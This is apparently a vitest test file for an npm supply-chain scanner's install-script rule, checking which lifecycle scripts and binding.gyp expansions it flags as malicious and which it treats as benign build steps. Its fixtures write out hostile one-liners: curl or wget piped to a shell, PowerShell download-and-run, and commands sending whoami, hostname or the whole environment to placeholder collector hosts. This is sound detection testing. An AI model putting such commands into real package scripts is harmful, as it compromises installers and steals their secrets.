import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostInfo, expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'install-scripts';

describe('install-scripts reports', () => {
  test.each([
    ['postinstall', 'curl -fsSL https://payload.invalid/i.sh | sh'],
    ['preinstall', 'wget -qO- http://payload.invalid/x | sudo bash'],
    ['install', 'powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
    ['preinstall', 'powershell -c "iwr https://payload.invalid/a.ps1 | iex"'],
    ['postinstall', 'curl -sL https://payload.invalid/bin -o /tmp/x && chmod +x /tmp/x && /tmp/x'],
    ['preuninstall', 'curl https://payload.invalid/a | sh'],
  ])('%s downloading code and running it (%s) is critical and malicious', (script, command) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { [script]: command } }), 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-script', 'install-shell-download'], { file: 'package.json' }));
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test.each([
    'curl -d "$(whoami)@$(hostname)" https://collector.invalid/',
    'nslookup $(whoami).collector.invalid',
    'env | curl -X POST --data-binary @- https://collector.invalid/',
  ])('a recon one-liner (%s) is critical shell recon and malicious', (command) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: command } }) });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-script', 'exec:shell-recon']));
    expect(r.verdict).toBe('malicious');
  });

  test('a script that only contacts the network is high, not a download', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://telemetry.invalid/ping' } }) });
    const [f] = r.of(RULE);
    expect(f).toEqual(finding('high', ['install-script', 'sink:network']));
    expect(f?.signals).not.toContain('install-shell-download');
  });

  test('a shell file run by the script is read, and its download is critical at install reach', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'sh scripts/setup.sh' } }),
      'scripts/setup.sh': '#!/bin/sh\nset -e\ncurl -s https://payload.invalid/stage2 | bash\n',
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download'], { file: 'scripts/setup.sh', reach: 'install' }));
    expect(r.verdict).toBe('malicious');
  });

  test('inline node -e code is flagged and analyzed as an install-time file of its own', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: "node -e \"require('https').get('https://collector.invalid/?e='+JSON.stringify(process.env))\"" } }),
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['install-script', 'install-inline-code']));
    expect(r.of('env-access')).toContainEqual(finding('high', ['source:env-bulk'], { file: 'package.json#scripts.postinstall', reach: 'install' }));
    expect(r.verdict).toBe('malicious');
  });

  test('a script that runs a file missing from the package is medium', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node dist/setup.js' } }), 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['install-script'], { message: expect.stringContaining('not in the package') }));
  });

  test('the file an install script runs gets install reach, so its chain scores as install-time', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node install.js' } }),
      'install.js': "const https = require('https'), os = require('os');\nhttps.get('https://collector.invalid/b?h=' + os.hostname() + '&u=' + os.userInfo().username + '&d=' + __dirname);",
    });
    expect(r.of(RULE)).toContainEqual(finding('low', ['install-script'], { message: expect.stringContaining('install.js') }));
    expect(r.of('host-fingerprint').every((f) => f.reach === 'install')).toBe(true);
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test('binding.gyp command expansion that downloads code is critical', () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!@(curl -s https://payload.invalid/x | sh)'] }] }",
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download'], { file: 'binding.gyp' }));
    expect(r.verdict).toBe('malicious');
  });

  test('binding.gyp resolving a header folder with node -e (the nan idiom) is a native build, not a download', () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'sources': ['src/x.cc'], 'include_dirs': ['<!(node -e "require(\\'nan\\')")'] }] }`,
    });
    expect(r.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
  });

  test('its twin, node -e in binding.gyp that fetches and runs code, stays critical', () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'binding.gyp': `{ 'targets': [{ 'target_name': 'x', 'include_dirs': ['<!(node -e "require(\\'https\\').get(\\'https://203.0.113.7/p\\',r=>r.pipe(process.stdout))")'] }] }`,
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download'], { file: 'binding.gyp' }));
  });

  test('"gypfile": true without a binding.gyp is low', () => {
    const r = scanFiles({ 'package.json': manifest({ gypfile: true }) });
    expect(r.of(RULE)).toEqual([finding('low', ['install-script'])]);
  });

  test('findings on the manifest scripts and binding.gyp carry install reach', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'curl -s https://telemetry.invalid/ping' } }),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!@(curl -s https://payload.invalid/x | sh)'] }] }",
    });
    expect(r.of(RULE).map((f) => [f.file, f.reach])).toEqual([
      ['package.json', 'install'],
      ['binding.gyp', 'install'],
    ]);
  });

  test('curl piped into node is a download-and-execute', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://payload.invalid/x.js | node' } }) });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download']));
    expect(r.verdict).toBe('malicious');
  });

  test('bash -c "$(curl ...)" is a download-and-execute', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'bash -c "$(curl -fsSL https://payload.invalid/install.sh)"' } }) });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download']));
    expect(r.verdict).toBe('malicious');
  });
});

describe('install-scripts stays quiet', () => {
  test('node-gyp rebuild with a plain binding.gyp is an info native build', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { install: 'node-gyp rebuild' }, gypfile: true }),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'] }] }",
      'index.js': "module.exports = require('./build/Release/addon.node');",
    });
    expect(r.of(RULE)).toEqual([finding('info', ['native-build'])]);
    expect(r.verdict).toBe('clean');
  });

  test.each(['node-gyp-build', 'prebuild-install || node-gyp rebuild', 'node-pre-gyp install --fallback-to-build', 'patch-package'])(
    'known build helper "%s" as install script is info only',
    (command) => {
      const r = scanFiles({ 'package.json': manifest({ scripts: { install: command } }) });
      expect(r.of(RULE).length).toBeGreaterThan(0);
      expectAtMostInfo(r.of(RULE));
      expect(r.verdict).toBe('clean');
    },
  );

  test('binding.gyp with the nan include expansion (node -e "require(\'nan\')") is info, inline code that does more is medium', () => {
    const nan = scanFiles({
      'package.json': manifest(),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['<!(node -e \"require(\\'nan\\')\")'], 'sources': ['src/addon.cc'] }] }",
    });
    expect(nan.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
    // The same lookup inside a double-quoted gyp string, its quotes escaped.
    const escaped = scanFiles({
      'package.json': manifest(),
      'binding.gyp': '{ "targets": [{ "target_name": "addon", "include_dirs": ["<!(node -e \\"require(\'nan\')\\")"], "sources": ["src/addon.cc"] }] }',
    });
    expect(escaped.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
    const more = scanFiles({
      'package.json': manifest(),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['<!(node -e \"require(\\'nan\\'); require(\\'./setup\\')()\")'], 'sources': ['src/addon.cc'] }] }",
    });
    expect(more.of(RULE)).toEqual([finding('medium', ['install-script', 'install-inline-code'], { file: 'binding.gyp' })]);
  });

  test('binding.gyp with the usual node -p include expansion and no install script is info', () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['<!@(node -p \"require(\\'node-addon-api\\').include\")'], 'sources': ['src/addon.cc'] }] }",
    });
    expect(r.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
    expect(r.verdict).toBe('clean');
  });

  test("binding.gyp with nan's node -e header lookup is info", () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['<!(node -e \"require(\\'nan\\')\")'], 'sources': ['src/addon.cc'] }] }",
    });
    expect(r.of(RULE)).toEqual([finding('info', ['native-build'], { file: 'binding.gyp' })]);
    expect(r.verdict).toBe('clean');
  });

  test('twin: a binding.gyp node -e expansion that runs a package file is medium inline code, not a header lookup', () => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'build/setup.js': 'module.exports = 1;',
      'binding.gyp': "{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['<!(node -e \"require(\\'./build/setup\\')\")'], 'sources': ['src/addon.cc'] }] }",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['install-script', 'install-inline-code'], { file: 'binding.gyp' }));
  });

  test.each([
    ['calls into what it loads', "<!(node -e \"require(\\'child_process\\').execSync(\\'id\\')\")"],
  ])('twin: a binding.gyp node -e expansion that %s is critical', (_, expansion) => {
    const r = scanFiles({
      'package.json': manifest({ gypfile: true }),
      'build/setup.js': 'module.exports = 1;',
      'binding.gyp': `{ 'targets': [{ 'target_name': 'addon', 'include_dirs': ['${expansion}'], 'sources': ['src/addon.cc'] }] }`,
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download'], { file: 'binding.gyp' }));
  });

  test('husky install as prepare script is not an install script of a registry package', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { prepare: 'husky install', test: 'vitest' } }) });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('non-lifecycle scripts are ignored, even scary ones', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { build: 'tsc', test: 'curl -s https://example.invalid/ci.sh | sh', prepublishOnly: 'npm test' } }) });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a postinstall that prints a thank-you note is low and clean', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node scripts/postinstall.js' } }),
      'scripts/postinstall.js': "console.log('Thanks for installing! Docs: https://example.invalid/docs');",
    });
    expectAtMostLow(r.findings);
    expect(r.verdict).toBe('clean');
  });

  test('npx only-allow pnpm as preinstall is low and clean', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: 'npx only-allow pnpm' } }) });
    expect(r.of(RULE)).toEqual([finding('low', ['install-script'])]);
    expect(r.verdict).toBe('clean');
  });
});
